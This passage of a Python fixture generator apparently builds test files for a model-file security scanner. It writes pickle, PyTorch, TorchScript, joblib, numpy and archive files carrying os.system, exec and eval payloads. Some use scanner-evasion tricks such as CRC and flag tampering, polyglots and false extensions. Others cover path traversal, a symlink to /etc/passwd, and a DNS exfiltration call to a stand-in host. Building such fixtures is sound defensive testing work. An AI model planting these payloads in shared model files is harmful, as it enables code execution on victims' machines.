        parts.append(data[pos:end])
        pos = end
    return parts, data[pos:]


def gen_malicious_torch():
    d = "malicious/torch/"
    torch.manual_seed(0)
    sd = torch.nn.Linear(4, 3).state_dict()
    tmp = out_path(d + "_tmp_base.pt")
    torch.save(sd, tmp)
    records = torch_zip_records(tmp)
    os.remove(tmp)

    payload = dumps(R(exec, PYSTMT), 2)
    base = write_torch_zip(d + "zip_data_pkl_payload.pt",
                           [(n, payload if n == "data.pkl" else b) for n, b in records])
    record(d + "zip_data_pkl_payload.pt", "malicious",
           "real torch.save zip (rewritten with torch's PyTorchFileWriter) with archive/data.pkl "
           "replaced by a builtins.exec pickle, other members kept; base for the C33-C35 variants",
           "C33", "builtins.exec")
    bad(d + "zip_crc_mismatch.pt", patch_zip(base, "data.pkl", crc=0xDEADBEEF),
        "same zip, data.pkl CRC-32 wrong in central directory and data descriptor "
        "(Python zipfile raises, torch 1.13 loads it: verified on a benign copy)", "builtins.exec", "C33")
    for fl in (0x1, 0x20, 0x40):
        bad(d + f"zip_flag_{fl:#04x}_local_and_central.pt", patch_zip(base, "data.pkl", flags_or=fl),
            f"same zip, general-purpose flag bit {fl:#x} set on data.pkl in local header and "
            "central directory (Python zipfile refuses; torch 1.13's miniz refuses too, the "
            "advisory reports newer torch loading it)", "builtins.exec", "C34")
        bad(d + f"zip_flag_{fl:#04x}_local_only.pt",
            patch_zip(base, "data.pkl", flags_or=fl, flags_where="l"),
            f"same zip, flag bit {fl:#x} only in data.pkl's local header (torch 1.13 and Python "
            "zipfile both still read it; verified on a benign copy)", "builtins.exec", "C34")
    bad(d + "zip_local_central_name_mismatch.pt",
        patch_zip(base, "data.pkl", local_name=lambda s: s[:-3] + "txt"),
        "same zip, local header names archive/data.txt, central directory archive/data.pkl "
        "(Python zipfile raises, torch 1.13 loads it: verified on a benign copy)",
        "builtins.exec", "C35")

    # C32 raw pickles with torch names
    bad(d + "pytorch_model.bin", pk(os_system_call(0, "os"), 0),
        "raw protocol-0 os.system pickle named pytorch_model.bin (no \\x80 magic)",
        "os.system", "C32")
    bad(d + "model_proto1.pt", dumps(R(os.system, CMD), 1),
        "raw protocol-1 pickle named .pt", "posix.system", "C32")

    # C36 7z wrappers
    seven_zip(d + "zip_payload_in.7z", "pytorch_model.bin", base)
    record(d + "zip_payload_in.7z", "malicious",
           "7z archive holding the malicious torch zip as pytorch_model.bin", "C36", "builtins.exec")
    seven_zip(d + "raw_pickle_no_ext_in.7z", "model/data", dumps(R(os.system, CMD), 2))
    record(d + "raw_pickle_no_ext_in.7z", "malicious",
           "7z archive holding a raw posix.system pickle under a name without extension",
           "C36", "posix.system")

    # C37 legacy tar format
    tar = tar_bytes([
        ("sys_info", pickle.dumps({"protocol_version": 1001, "little_endian": True,
                                   "type_sizes": {"short": 2, "int": 4, "long": 4}}, protocol=2)),
        ("pickle", dumps(R(os.system, CMD), 2)),
        ("storages", pickle.dumps(0, protocol=2) + pickle.dumps([], protocol=2)),
        ("tensors", pickle.dumps(0, protocol=2)),
    ])
    bad(d + "legacy_tar_format.pt", tar,
        "legacy torch tar format (sys_info, pickle, storages, tensors); payload in 'pickle'",
        "posix.system", "C37")

    # B28 legacy magic-number bypass: real legacy file, first pickle replaced
    tmp = out_path(d + "_tmp_legacy.pt")
    torch.save(sd, tmp, _use_new_zipfile_serialization=False)
    normalize_legacy_keys(tmp)
    parts, tail = legacy_torch_parts(tmp)
    os.remove(tmp)
    magic = pk(call(ref("builtins", "eval", 2),
                    PYSTMT + " or 0x1950a86a20f9469cfc6c"), 2)
    bad(d + "legacy_magic_number_eval.pt", magic + b"".join(parts[1:]) + tail,
        "legacy torch file whose first pickle computes MAGIC_NUMBER with builtins.eval "
        "(payload `or` magic); rest of the real file kept", "builtins.eval", "B28")

    # C40 polyglot: malicious pickle prepended to a benign torch zip
    benign_zip = write_torch_zip(d + "_tmp_poly.pt", records)
    os.remove(out_path(d + "_tmp_poly.pt"))
    bad(d + "polyglot_pickle_then_zip.pt", dumps(R(os.system, CMD), 2) + benign_zip,
        "posix.system pickle followed by an intact benign torch zip: zip readers see a clean "
        "archive (EOCD at the end), torch.load sees no zip magic at offset 0 and unpickles",
        "posix.system", "C40")

    # D43 TorchScript constants.pkl payload
    torch.manual_seed(0)
    scripted = torch.jit.script(torch.nn.Sequential(torch.nn.Linear(3, 2), torch.nn.ReLU()))
    tmp = out_path(d + "_tmp_ts.pt")
    torch.jit.save(scripted, tmp)
    ts_records = torch_zip_records(tmp)
    os.remove(tmp)
    write_torch_zip(d + "torchscript_constants_payload.pt",
                    [(n, dumps(R(os.system, CMD), 2) if n == "constants.pkl" else b)
                     for n, b in ts_records])
    record(d + "torchscript_constants_payload.pt", "malicious",
           "TorchScript archive (torch.jit.save) with constants.pkl replaced by a posix.system "
           "pickle; torch.load(weights_only=True) < 2.6 dispatches TorchScript to torch.jit.load. "
           "Detection test: torch 1.13's C++ TorchScript unpickler rejects non-TorchScript "
           "globals ('Unknown type name'), so this payload does not run there",
           "D43", "posix.system")

    # D44 tensor metadata vs blob
    big = {"w": torch.arange(1000, dtype=torch.float32)}
    tmp = out_path(d + "_tmp_big.pt")
    torch.save(big, tmp)
    brec = torch_zip_records(tmp)
    os.remove(tmp)
    write_torch_zip(d + "storage_numel_exceeds_blob.pt",
                    [(n, b[:16] if n == "data/0" else b) for n, b in brec])
    record(d + "storage_numel_exceeds_blob.pt", "malicious",
           "zip checkpoint whose data.pkl declares a 1000-element FloatStorage but data/0 holds "
           "16 bytes (metadata/blob mismatch -> OOB read in unchecked loaders)", "D44",
           "tensor storage size mismatch anomaly")
    oob = torch._sparse_coo_tensor_unsafe(torch.tensor([[0, 1000000]]), torch.tensor([1.0, 2.0]),
                                          (4,))
    torch.save({"sp": oob}, out_path(d + "sparse_indices_out_of_bounds.pt"))
    record(d + "sparse_indices_out_of_bounds.pt", "malicious",
           "sparse COO tensor with index 1000000 for size (4,) via allow-listed "
           "torch._utils._rebuild_sparse_tensor (weights_only memory-corruption class)", "D44",
           "sparse tensor index out of bounds anomaly")


def gen_malicious_containers():
    d = "malicious/archive/"
    payload = dumps(R(os.system, CMD), 2)
    bad(d + "zip_member_weights_txt.zip", plain_zip([("model/weights.txt", payload),
                                                     ("model/config.json", b"{}")]),
        "zip whose only pickle is named weights.txt", "posix.system", "C31")
    bad(d + "zip_member_no_extension.zip", plain_zip([("archive/data/0", payload)],
                                                     zipfile.ZIP_DEFLATED),
        "deflated zip member archive/data/0 holding a pickle", "posix.system", "C31")
    bad(d + "zip_path_traversal.zip", plain_zip([("../../tmp/aigis-fixture.pkl", payload)]),
        "zip member name ../../tmp/aigis-fixture.pkl (path traversal) holding a pickle",
        "path traversal + posix.system", "C41")
    bad(d + "tar_symlink_and_traversal.tar",
        tar_bytes([("model/weights.bin", ("symlink", "/etc/passwd")),
                   ("../aigis-fixture-escape.txt", b"escaped\n")]),
        "tar with a symlink member to /etc/passwd and a ../ member", "archive path traversal / symlink",
        "C41")
    nemo_yaml = (b"target: nemo.collections.asr.models.EncDecCTCModel\n"
                 b"preprocessor:\n  _target_: builtins.exec\n"
                 b"  _args_: [\"__import__('os').system('echo aigis-fixture')\"]\n")
    bad(d + "hydra_target.nemo", tar_bytes([("./model_config.yaml", nemo_yaml)], tarfile.GNU_FORMAT),
        "NeMo-style tar whose model_config.yaml has a Hydra _target_: builtins.exec",
        "_target_: builtins.exec", "D50")

    # C38 compressed joblib / pickle
    d = "malicious/joblib/"
    for tag, comp in [("zlib", 3), ("gzip", ("gzip", 3)), ("bz2", ("bz2", 3)),
                      ("xz", ("xz", 3)), ("lzma", ("lzma", 3)), ("lz4", ("lz4", 3))]:
        rel = d + f"payload_{tag}.joblib"
        joblib.dump(R(os.system, CMD), out_path(rel), compress=comp)
        record(rel, "malicious", f"joblib.dump(compress={comp!r}) of a posix.system gadget", "C38",
               "posix.system")
    bad(d + "payload.pkl.gz", gzip_bytes(payload), "gzip-compressed raw pickle (.pkl.gz)",
        "posix.system", "C38")
    arr = np.empty(2, dtype=object)
    arr[0] = "ok"
    arr[1] = R(os.system, CMD)
    joblib.dump({"coef": np.arange(4.0), "labels": arr}, out_path(d + "object_array_nested_pickle.joblib"))
    record(d + "object_array_nested_pickle.joblib", "malicious",
           "joblib file: float array raw bytes, then an object-dtype NumpyArrayWrapper whose "
           "data is a nested protocol-2 pickle carrying posix.system (CVE-2024-34997 path)",
           "D48", "posix.system")

    # C39 extension lies
    d = "malicious/misc/"
    bad(d + "model.safetensors", payload, "pickle named model.safetensors", "posix.system", "C39")
    bad(d + "weights.msgpack", dumps(R(exec, PYSTMT), 4), "pickle named weights.msgpack",
        "builtins.exec", "C39")
    bad(d + "config.json", dumps(R(os.system, CMD), 0), "protocol-0 pickle named config.json",
        "posix.system", "C39")

    # C42 numpy object arrays
    d = "malicious/numpy/"
    a = np.empty(2, dtype=object)
    a[0] = 1
    a[1] = R(os.system, CMD)
    buf = io.BytesIO()
    np.save(buf, a, allow_pickle=True)
    npy = buf.getvalue()
    bad(d + "object_array_payload.npy", npy,
        "np.save object array whose element pickles as posix.system", "posix.system", "C42")
    buf = io.BytesIO()
    np.savez(buf, ok=np.arange(3), evil=a)
    bad(d + "object_array_payload.npz", buf.getvalue(), "np.savez with the malicious object array",
        "posix.system", "C42")
    buf = io.BytesIO()
    np.savez_compressed(buf, evil=a)
    bad(d + "object_array_payload_compressed.npz", buf.getvalue(),
        "np.savez_compressed with the malicious object array", "posix.system", "C42")
    e = np.empty(1, dtype=object)
    e[0] = R(ssl.get_server_certificate, ("aigis-fixture.example.invalid", 443))
    buf = io.BytesIO()
    np.save(buf, e, allow_pickle=True)
    bad(d + "dns_exfiltration.npy", buf.getvalue(),
        "object .npy calling ssl.get_server_certificate (DNS exfiltration)",
        "ssl.get_server_certificate", "C42")
    bad(d + "raw_pickle_named.npy", payload, "raw pickle named .npy (no \\x93NUMPY header); "
        "np.load(allow_pickle=True) falls back to pickle.load", "posix.system", "C42")


def main():
    if os.path.isdir(ROOT):
        shutil.rmtree(ROOT)
    os.makedirs(ROOT)
    gen_benign_torch()
    gen_benign_sklearn()
    gen_benign_pandas()
    gen_benign_numpy()
    gen_benign_stdlib()
    gen_benign_dill_cloudpickle()
    gen_benign_safetensors()
    gen_malicious_pickle()
    gen_malicious_vm()
    gen_malicious_torch()
    gen_malicious_containers()

    on_disk = set()
    for dp, _, fns in os.walk(ROOT):
        for fn in fns:
            rel = os.path.relpath(os.path.join(dp, fn), ROOT)
            if rel != "labels.json":
                on_disk.add(rel)
    missing = on_disk ^ set(LABELS)
    assert not missing, missing
    with open(os.path.join(ROOT, "labels.json"), "w") as f:
        json.dump(dict(sorted(LABELS.items())), f, indent=1, sort_keys=True)
        f.write("\n")
    nb = sum(1 for v in LABELS.values() if v["label"] == "benign")
    print(f"wrote {len(LABELS)} fixtures ({nb} benign, {len(LABELS) - nb} malicious) to {ROOT}")


if __name__ == "__main__":
    main()
